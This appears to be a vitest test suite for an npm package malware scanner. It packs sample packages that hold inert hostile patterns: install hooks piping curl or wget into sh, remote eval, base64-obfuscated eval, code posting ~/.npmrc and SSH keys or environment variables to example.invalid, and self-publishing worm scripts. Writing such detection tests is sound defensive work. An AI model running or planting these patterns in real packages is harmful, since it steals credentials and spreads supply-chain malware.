import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Readable } from 'node:stream';
import { scanTarball, type ScanReport } from '../../helper/src/scan/index.js';
import { manifestEntry, packTree, rawTgz, tempDir, type Tree } from './support.js';

// Every payload below is an inert string aimed at reserved names (example.invalid): nothing here runs.
let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir();
});
afterAll(() => work.cleanup());

let n = 0;
async function scan(manifest: Record<string, unknown>, files: Tree = {}): Promise<ScanReport> {
  return scanTarball(await packTree(work.dir, `sample-${n++}`, manifest, files));
}
const summary = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}:${f.line ?? '-'}`);
const highest = (r: ScanReport) => r.findings[0]?.severity ?? 'none';

const PAYLOAD_B64 = Buffer.from(`console.log("inert test payload");${' '.repeat(300)}`).toString('base64');
const ELF_HEAD = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(600)]);

describe('scan: malicious samples', () => {
  it('install-script-remote-code: a postinstall piping curl into sh', async () => {
    const r = await scan({ scripts: { test: 'vitest', postinstall: 'curl -fsSL https://example.invalid/setup.sh | sh' } });
    expect(summary(r)).toEqual(['critical install-script-remote-code package.json:6']);
    expect(r.findings[0]!.evidence).toBe('postinstall: curl -fsSL https://example.invalid/setup.sh | sh');
    expect(r.package).toEqual({ name: 'sample-0', version: '1.0.0' });
  });

  it('install-script-remote-code: node install.js fetching code and evaluating it', async () => {
    const r = await scan({ scripts: { install: 'node install.js' } }, {
      'install.js': [
        "const https = require('https');",
        "https.get('https://example.invalid/stage2', (res) => {",
        "  let body = '';",
        "  res.on('data', (c) => (body += c));",
        '  res.on(\'end\', () => eval(body));',
        '});',
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['critical code-remote-eval install.js:5', 'critical install-script-remote-code install.js:5', 'low install-script package.json:5']);
  });

  it('install-script-shell: a preinstall spawning a shell is medium', async () => {
    const r = await scan({ scripts: { preinstall: "sh -c 'echo building'" } });
    expect(summary(r)).toEqual(['medium install-script-shell package.json:5']);
  });

  it('obfuscated-eval: a base64 literal decoded into eval', async () => {
    const r = await scan({ main: 'index.js' }, {
      'index.js': `'use strict';\nconst blob = '${PAYLOAD_B64}';\nmodule.exports = () => eval(Buffer.from(blob, 'base64').toString());\n`,
    });
    expect(summary(r)).toEqual(['high code-remote-eval index.js:3', 'high obfuscated-eval index.js:3']);
  });

  it('obfuscated-eval at install time is critical', async () => {
    const r = await scan({ scripts: { postinstall: 'node setup.js' } }, {
      'setup.js': `const k = "${PAYLOAD_B64}";\nnew Function(atob(k))();\n`,
    });
    expect(summary(r)).toContain('critical obfuscated-eval setup.js:2');
  });

  it('obfuscator-signature: javascript-obfuscator style identifiers en masse', async () => {
    const body = Array.from({ length: 120 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=_0x${(0x2b3c + i).toString(16)}(0x${i.toString(16)});`).join('\n');
    const r = await scan({}, { 'lib/a.js': `// start\n${body}\n` });
    expect(summary(r)).toEqual(['medium obfuscator-signature lib/a.js:2']);
  });

  it('escape-density: a file made of hex escapes that evaluates strings', async () => {
    const escaped = '\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65'.repeat(100);
    const r = await scan({}, { 'x.js': `var s = "${escaped}";\nFunction(s)();\n` });
    expect(summary(r)).toEqual(['medium escape-density x.js:2']);
  });

  it('credential-exfil: .npmrc and ssh keys read and posted', async () => {
    const r = await scan({}, {
      'index.js': [
        "const fs = require('fs'), os = require('os'), https = require('https');",
        "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
        "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');",
        "const req = https.request({ host: 'example.invalid', method: 'POST' });",
        'req.end(JSON.stringify({ npmrc, key }));',
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high credential-exfil index.js:2', 'high code-exfiltration index.js:5']);
    expect(r.findings[0]!.message).toBe('reads npm, ssh credentials and sends data over the network');
  });

  it('credential-exfil: the environment sent over DNS at install time is critical', async () => {
    const r = await scan({ scripts: { postinstall: 'node collect.js' } }, {
      'collect.js': [
        "const dns = require('dns');",
        "const data = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);",
        "dns.resolve(data + '.example.invalid', () => {});",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['critical credential-exfil collect.js:2', 'critical code-exfiltration collect.js:3', 'medium install-script-network collect.js:3', 'low install-script package.json:5']);
  });

  it('credential-exfil: a cloud metadata read next to fetch in a library is low (the code analysis follows the data)', async () => {
    const r = await scan({}, { 'imds.js': "module.exports = () => fetch('http://169.254.169.254/latest/meta-data/');\n" });
    expect(summary(r)).toEqual(['low credential-exfil imds.js:1']);
  });

  it('self-propagation: a postinstall that publishes', async () => {
    const r = await scan({ scripts: { postinstall: 'npm whoami && npm publish --access public' } });
    expect(summary(r)).toEqual(['critical self-propagation package.json:5', 'low install-script package.json:5']);
  });

  it('self-propagation: an install file that republishes with the found token', async () => {
    const r = await scan({ scripts: { postinstall: 'node worm.js' } }, {
      'worm.js': [
        "const { execSync } = require('child_process');",
        "const user = execSync('npm whoami').toString();",
        "execSync('npm publish', { env: { NPM_TOKEN: process.env.NPM_TOKEN } });",
      ].join('\n'),
    });
    expect(summary(r)).toContain('critical self-propagation worm.js:3');
  });

  it('self-propagation: an install script handling registry tokens is high', async () => {
    const r = await scan({ scripts: { preinstall: 'echo //registry.npmjs.org/:_authToken=$NPM_TOKEN > .npmrc' } });
    expect(summary(r)).toEqual(['high self-propagation package.json:5', 'low install-script package.json:5']);
  });

  it('unexpected-binary: an ELF executable named .js is high', async () => {
    const r = await scan({}, { 'lib/helper.js': ELF_HEAD });
    expect(summary(r)).toEqual(['high unexpected-binary lib/helper.js:-']);
    expect(r.findings[0]!.evidence).toBe('ELF executable, 608 bytes');
  });

  it('unexpected-binary: an executable in a package declaring no native code is medium', async () => {
    const pe = Buffer.alloc(512);
    pe.write('MZ', 0);
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    const r = await scan({}, { 'tools/update': pe });
    expect(summary(r)).toEqual(['medium unexpected-binary tools/update:-']);
  });

  it('unexpected-binary: a platform package shipping its binary is low', async () => {
    const r = await scan({ os: ['linux'], cpu: ['x64'] }, { 'bin/tool': ELF_HEAD });
    expect(summary(r)).toEqual(['low unexpected-binary bin/tool:-']);
  });
});

describe('scan: benign look-alikes are not high', () => {
  it('an esbuild-style postinstall that downloads its platform binary', async () => {
    const r = await scan({ scripts: { postinstall: 'node install.js' } }, {
      'install.js': [
        "const https = require('https'), child_process = require('child_process'), fs = require('fs');",
        'function fetch(url) { return new Promise((resolve) => https.get(url, resolve)); }',
        "child_process.execSync('npm install --no-save @example/linux-x64', { stdio: 'pipe' });",
        "child_process.execFileSync(require.resolve('./bin/tool'), ['--version']);",
      ].join('\n'),
    });
    expect(highest(r)).toBe('medium');
  });

  it('a minified bundle with a global lookup and an inline source map', async () => {
    const r = await scan({}, {
      'dist/bundle.min.js': `var g=Function("return this")();!function(){var e=${'[1,2,3].map(function(a){return a*2}),'.repeat(2000)}0}();\n//# sourceMappingURL=data:application/json;base64,${PAYLOAD_B64.repeat(3)}\n`,
    });
    expect(summary(r)).toEqual([]);
  });

  it('a unicode table full of escapes', async () => {
    const r = await scan({}, { 'table.js': `module.exports = /${'\\u00e9\\u00e8'.repeat(400)}/;\n` });
    expect(summary(r)).toEqual(['low escape-density table.js:1']);
  });

  it('a release tool that runs npm publish outside install hooks', async () => {
    const r = await scan({ bin: { release: 'cli.js' } }, {
      'cli.js': "#!/usr/bin/env node\nrequire('child_process').execSync('npm publish --tag next', { stdio: 'inherit' });\n",
    });
    // Noted, never more than low: it runs only when the user runs the command, and rewrites no manifest.
    expect(summary(r)).toEqual(['low code-worm cli.js:2']);
  });

  it('type declarations mentioning the metadata endpoint', async () => {
    const r = await scan({}, { 'index.d.ts': '/** fetch(url) from http://169.254.169.254/ */\nexport declare function f(): void;\n' });
    expect(summary(r)).toEqual([]);
  });
});

describe('scan: directory input', () => {
  it('reads a hand-made archive with its package.json first', async () => {
    const r = await scanTarball(Readable.from(rawTgz([manifestEntry({ scripts: { postinstall: 'wget -qO- http://example.invalid | bash' } })])));
    expect(summary(r)).toEqual(['critical install-script-remote-code package.json:1']);
  });
});
